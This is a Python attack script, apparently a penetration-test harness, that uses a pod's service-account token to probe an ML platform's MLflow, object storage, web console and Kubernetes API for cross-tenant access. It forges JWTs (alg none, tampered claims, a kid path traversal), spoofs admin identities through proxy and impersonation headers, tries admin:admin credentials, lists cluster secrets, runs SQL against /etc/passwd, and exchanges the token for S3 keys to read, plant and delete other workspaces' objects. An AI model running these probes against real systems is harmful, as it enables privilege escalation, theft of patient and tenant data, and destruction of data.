# SPDX-License-Identifier: Apache-2.0
"""Asks every door that it knows for what is not its own, with the pod's token."""
import base64
import datetime
import hashlib
import hmac
import http.client
import json
import os
import ssl
import urllib.parse

HEADERS = ("X-Remote-User", "X-Remote-Group", "X-Forwarded-User", "Kubeflow-Userid", "Impersonate-User", "X-Forwarded-Client-Cert", "Remote-User")
MLFLOW = "/api/2.0/mlflow"


class Door:
    """One TLS server."""

    def __init__(self, findings, url: str, ca: str, token: str = ""):
        self.findings, self.token = findings, token
        place = urllib.parse.urlsplit(url)
        self.host, self.port = place.hostname, place.port
        self.context = ssl.create_default_context(cafile=ca)
        self.context.check_hostname = False

    def ask(self, name: str, method: str, path: str, body=None, headers=None, scan=True):
        """Sends a request, notes the status under the name, and looks for marks in the answer."""
        headers = dict(headers or {})
        if self.token and "Authorization" not in headers:
            headers["Authorization"] = "Bearer " + self.token
        if isinstance(body, (dict, list)):
            body, headers["Content-Type"] = json.dumps(body), "application/json"
        try:
            connection = http.client.HTTPSConnection(self.host, self.port, timeout=30, context=self.context)
            connection.request(method, path, body=body, headers=headers)
            response = connection.getresponse()
            content, status = response.read(1 << 20), response.status
            connection.close()
        except (OSError, http.client.HTTPException) as e:
            content, status = str(e).encode(), 0
        self.findings.note("answers", f"{name}: {method} {path}"[:300], status)
        if scan:
            self.findings.scan(f"door:{name}: {method} {path}"[:200], content)
        return status, content


def document(content: bytes) -> dict:
    try:
        value = json.loads(content)
    except ValueError:
        return {}
    return value if isinstance(value, dict) else {}


def staging(door: Door, me: dict, told: dict, note: bytes) -> None:
    """Other runs, and blobs whose digests are known."""
    base = f"/runs/{me['workspace']}/"
    digests = told["digests"] + [hashlib.sha256(b"").hexdigest()]
    runs = [r for r in [*me["siblings"], *told["runs"]] if r != me["run"]]
    _, stage = door.ask("own", "GET", base + me["run"] + "/stage", scan=False)
    for run in runs:
        for method, path in (("GET", "stage"), ("GET", "checkpoints"), ("PUT", "output/x?digest=sha256:" + digests[0]), ("POST", "complete"), ("POST", "failure"), ("POST", "progress")):
            door.ask("another run", method, base + run + "/" + path, {} if method == "POST" else None)
    for digest in digests:
        for run in [me["run"], *runs[:2]]:
            own = run == me["run"] and digest.encode() in stage
            door.ask("own" if own else "blob of another", "GET", base + run + "/blobs/sha256:" + digest)
    for workspace in told["workspaces"]:
        for run in (me["run"], *runs[:2]):
            door.ask("another workspace", "GET", f"/runs/{workspace}/{run}/stage")
    claim = {"files": [{"path": "stolen", "digest": "sha256:" + d, "size": 1} for d in digests]}
    status, content = door.ask("own claim", "POST", base + me["run"] + "/complete", claim)
    if document(content).get("committed"):
        door.findings.note("answers", "claimed blobs were committed", status)
    digest = hashlib.sha256(note).hexdigest()
    door.ask("own", "PUT", base + me["run"] + "/checkpoints/note?digest=sha256:" + digest, note)
    for trick in ("/../" + (runs or ["x"])[0], "/%2e%2e/x", "//", "/..%2fx"):
        door.ask("path trick", "GET", base + me["run"] + trick + "/stage")


def tracking(door: Door, me: dict, told: dict, note: bytes) -> None:
    """Publishes the note in its own run, then looks for those of others."""
    base, run, text = f"/mlflow/{me['workspace']}", me["tracking"], note.decode()
    if run:
        door.ask("own", "POST", base + MLFLOW + "/runs/log-parameter", {"run_id": run, "key": "note", "value": text})
        door.ask("own", "POST", base + MLFLOW + "/runs/set-tag", {"run_id": run, "key": "note", "value": text})
        _, content = door.ask("own", "GET", base + MLFLOW + "/runs/get?run_id=" + run, scan=False)
        info = document(content).get("run", {}).get("info", {})
        root = info.get("artifact_uri", "").replace("mlflow-artifacts:/", "").strip("/")
        door.ask("own", "PUT", base + "/api/2.0/mlflow-artifacts/artifacts/" + root + "/note", note)
        experiment = info.get("experiment_id", "0")
    else:
        experiment = "1"
    shared = {"registered-models/create": {"name": me["part"], "description": text}, "experiments/create": {"name": text}, "runs/create": {"experiment_id": experiment, "run_name": text},
              "experiments/set-experiment-tag": {"experiment_id": experiment, "key": me["part"], "value": text}, "experiments/update": {"experiment_id": experiment, "new_name": text}}
    for path, body in shared.items():
        door.ask("publish", "POST", f"{base}{MLFLOW}/{path}", body)
    for path in (f"{experiment}/note", "note", f"{experiment}/models/note"):
        door.ask("publish", "PUT", f"{base}/api/2.0/mlflow-artifacts/artifacts/{path}", note)
    for number in ("0", "1", "2"):
        door.ask("search", "POST", base + MLFLOW + "/runs/search", {"experiment_ids": [number], "max_results": 1000})
        door.ask("search", "POST", base + MLFLOW + "/logged-models/search", {"experiment_ids": [number]})
    for path in ("experiments/search?max_results=100", "registered-models/search?max_results=100", "model-versions/search?max_results=100"):
        door.ask("search", "GET", f"{base}{MLFLOW}/{path}")
    for path in ("", "?path=0", f"?path={experiment}", "?path=fathom"):
        door.ask("artifacts", "GET", base + "/api/2.0/mlflow-artifacts/artifacts" + path)
    for other in told["tracking"]:
        if other != run:
            door.ask("another run's tracking", "GET", f"{base}{MLFLOW}/runs/get?run_id={other}")
            door.ask("another run's tracking", "GET", f"{base}/ajax-api/2.0/mlflow/artifacts/list?run_id={other}")
    for workspace in told["workspaces"]:
        door.ask("another workspace", "POST", f"/mlflow/{workspace}{MLFLOW}/runs/search", {"experiment_ids": ["0"]})


def console(door: Door, me: dict, told: dict) -> None:
    """What people see."""
    for workspace in [me["workspace"], *told["workspaces"]]:
        base = f"/api/workspaces/{workspace}"
        for table in told["tables"]:
            door.ask("sql", "POST", base + "/sql", {"sql": f"select * from {table}", "format": "csv"})
        door.ask("sql", "POST", base + "/sql", {"sql": "select * from read_csv('/etc/passwd')", "format": "csv"})
        for path in ("/runs", "/subjects/SUBJ-000", *(f"/datasets/{t}/{v}" for t in told["tables"] for v in ("versions", "why")), "/models/parkinsons/why", "/models/parkinsons/evaluation",
                     "/modelversions/parkinsons-1/files/model.onnx", *(f"/runs/{r}/log" for r in [*me["siblings"], *told["runs"]])):
            door.ask("console", "GET", base + path)
        for path in ("/models/parkinsons/promotion", "/models/parkinsons/replay", f"/runs/{me['run']}/cancel", "/bundles", "/plan"):
            door.ask("console", "POST", base + path, {"action": "approve"})
        door.ask("console", "PUT", base + "/objects/inbox/planted.csv", b"planted")
        for page in ("", "/models/parkinsons", "/reports/findings/index.html"):
            door.ask("console", "GET", f"/ui/workspaces/{workspace}{page}")
        for path in ("", "/models/parkinsons", "/health/ready"):
            door.ask("endpoint", "GET", f"/endpoints/{workspace}/parkinsons/v2{path}")
    door.ask("console", "GET", "/ui/")
    door.ask("console", "GET", "/metrics")
    door.ask("console", "POST", "/api/sessions", {})
    for header in HEADERS:
        for token in ("", door.token):
            door.ask(f"header {header} {'with' if token else 'without'} token", "GET", f"/api/workspaces/{me['workspace']}/runs", headers={header: "fathom:owner", **({} if token else {"Authorization": "Bearer"})})
    for name, token in forged(door.token).items():
        door.ask("forged " + name, "GET", f"/runs/{me['workspace']}/{me['run']}/stage", headers={"Authorization": "Bearer " + token})


def forged(token: str) -> dict:
    """Tokens that look like the pod's."""
    def part(value) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    try:
        _, claims, signature = token.split(".")
        content = json.loads(base64.urlsafe_b64decode(claims + "=="))
    except ValueError:
        return {}
    content["sub"] = "system:serviceaccount:kube-system:default"
    return {"none": f"{part({'alg': 'none'})}.{claims}.", "claims": f"{token.split('.')[0]}.{part(content)}.{signature}",
            "key": f"{part({'alg': 'HS256', 'kid': '../../etc/passwd'})}.{claims}.{base64.urlsafe_b64encode(hmac.new(b'', claims.encode(), 'sha256').digest()).decode()}"}


def kubernetes(door: Door, me: dict, told: dict) -> None:
    for path in ("/api", "/apis", "/version", "/healthz", "/openid/v1/jwks", "/api/v1/nodes", "/api/v1/secrets", "/api/v1/pods", "/api/v1/namespaces", "/api/v1/configmaps",
                 "/apis/fathom.dev/v1alpha1/runs", "/apis/fathom.dev/v1alpha1/datasets", "/apis/rbac.authorization.k8s.io/v1/clusterroles", "/logs/", "/metrics", "/debug/pprof/"):
        door.ask("kubernetes", "GET", path)
    for workspace in [me["workspace"], *told["workspaces"]]:
        for kind in ("secrets", "pods", "configmaps", "serviceaccounts", "events"):
            door.ask("kubernetes", "GET", f"/api/v1/namespaces/{workspace}/{kind}")
        door.ask("kubernetes", "GET", f"/apis/fathom.dev/v1alpha1/namespaces/{workspace}/runs")
        door.ask("kubernetes", "POST", f"/api/v1/namespaces/{workspace}/serviceaccounts/steps/token", {"spec": {"audiences": ["fathom"]}})
    door.ask("kubernetes", "POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews", {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"})
    door.ask("kubernetes", "GET", "/api/v1/secrets", headers={"Authorization": "Basic " + base64.b64encode(b"admin:admin").decode()})
    door.ask("kubernetes", "GET", "/api/v1/secrets", headers={"X-Remote-User": "system:admin", "X-Remote-Group": "system:masters"})
    door.ask("kubernetes", "GET", "/api/v1/secrets", headers={"Impersonate-User": "system:admin", "Impersonate-Group": "system:masters"})


def objects(door: Door, me: dict, told: dict, note: bytes) -> None:
    """S3: keys for the pod's token, then everything that keys can ask for."""
    form = urllib.parse.urlencode({"Action": "AssumeRoleWithWebIdentity", "Version": "2011-06-15", "RoleArn": "arn:aws:iam::000000000000:role/fathom",
                                   "RoleSessionName": "attack", "WebIdentityToken": door.token})
    door.token = ""
    status, content = door.ask("own", "POST", "/", form, {"Content-Type": "application/x-www-form-urlencoded"})
    keys = {tag: between(content.decode(errors="replace"), tag) for tag in ("AccessKeyId", "SecretAccessKey", "SessionToken")}
    for bucket in [me["workspace"], *told["workspaces"]]:
        requests = [("GET", f"/{bucket}?list-type=2"), ("GET", f"/{bucket}"), ("HEAD", f"/{bucket}"), ("GET", f"/{bucket}?uploads="), ("PUT", f"/{bucket}/inbox/planted.csv"),
                    ("DELETE", f"/{bucket}/inbox/patients.csv"), ("POST", f"/{bucket}/x?uploads=")]
        requests += [("GET", f"/{bucket}/{key}") for key in told["keys"]] + [("GET", f"/{bucket}/..%2f{b}/{k}") for b in told["workspaces"] for k in told["keys"][:1]]
        for method, path in requests:
            door.ask("objects", method, path, note if method == "PUT" else None, sign(keys, door, method, path, note if method == "PUT" else b""))
            door.ask("objects unsigned", method, path, note if method == "PUT" else None)
    door.ask("own", "GET", "/", None, sign(keys, door, "GET", "/", b""))


def between(text: str, tag: str) -> str:
    return text.partition(f"<{tag}>")[2].partition(f"</{tag}>")[0]


def sign(keys: dict, door: Door, method: str, path: str, body: bytes) -> dict:
    """AWS' signature, version 4."""
    now = datetime.datetime.now(datetime.timezone.utc)
    stamp, day, digest = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d"), hashlib.sha256(body).hexdigest()
    target, _, query = path.partition("?")
    headers = {"host": f"{door.host}:{door.port}", "x-amz-content-sha256": digest, "x-amz-date": stamp, "x-amz-security-token": keys["SessionToken"]}
    canonical = "\n".join([method, target, "&".join(sorted(q if "=" in q else q + "=" for q in query.split("&") if q)),
                           *(f"{k}:{v}" for k, v in headers.items()), "", ";".join(headers), digest])
    scope = f"{day}/us-east-1/s3/aws4_request"
    key = ("AWS4" + keys["SecretAccessKey"]).encode()
    for step in (day, "us-east-1", "s3", "aws4_request"):
        key = hmac.new(key, step.encode(), "sha256").digest()
    text = f"AWS4-HMAC-SHA256\n{stamp}\n{scope}\n{hashlib.sha256(canonical.encode()).hexdigest()}"
    signature = hmac.new(key, text.encode(), "sha256").hexdigest()
    headers["Authorization"] = f"AWS4-HMAC-SHA256 Credential={keys['AccessKeyId']}/{scope}, SignedHeaders={';'.join(h for h in headers)}, Signature={signature}"
    return headers


def token() -> str:
    with open(os.environ["FATHOM_TOKEN_FILE"], encoding="ascii") as f:
        return f.read().strip()
